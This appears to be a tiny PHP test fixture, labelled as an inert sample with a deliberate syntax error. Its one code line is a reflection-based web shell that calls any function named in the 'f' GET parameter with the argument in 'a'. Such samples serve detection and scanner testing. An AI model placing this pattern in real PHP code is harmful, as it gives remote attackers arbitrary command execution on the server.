<?php
shodo inert sample: deliberate syntax error, this file never runs
 $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']); ?>
